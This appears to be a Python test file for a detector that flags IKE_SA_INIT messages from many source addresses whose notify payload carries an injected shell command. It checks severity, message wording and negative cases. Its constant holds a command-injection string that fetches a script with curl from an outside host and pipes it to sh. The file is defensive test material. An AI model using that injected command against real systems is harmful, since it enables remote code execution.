from tests.assessment.build import Talk, found, healthy

ID = "commands-from-many-sources"
COMMAND = b"x;bash -c curl 198.51.100.9|sh;"


def attack(number: int, source: str, target: str, data: bytes = COMMAND) -> Talk:
    made = Talk(number=number, frame=number, at=number, initiator=source, responder=target, outcome="unanswered")
    made.say("IKE_SA_INIT", notifies=[(14, data)], payloads=(41,))
    return made


def many(sources: int, targets: int = 12, data: bytes = COMMAND) -> list[Talk]:
    return [attack(k + 1, f"198.51.100.{k % sources}", f"192.0.2.{k % targets}", data) for k in range(12)]


def test_twelve_sources() -> None:
    (finding,) = found(ID, *many(12))
    assert (finding.severity, finding.confidence, finding.subject) == ("high", "likely", "12 addresses")
    assert finding.detail == "12 messages from 12 addresses to 12 addresses; the sources may be forged."
    assert finding.evidence_frames == tuple(range(1, 11))
    assert found(ID, *many(10, targets=1))[0].detail.startswith("12 messages from 10 addresses to 1 address;")


def test_few_sources() -> None:
    assert found(ID, *many(1)) == []
    assert found(ID, *many(9)) == []


def test_other_notifies_of_many_sources() -> None:
    assert found(ID, *many(12, data=b"no proposal chosen")) == []
    assert found(ID, *(healthy(n, 10 * n, initiator=f"198.51.100.{n}") for n in range(1, 13))) == []
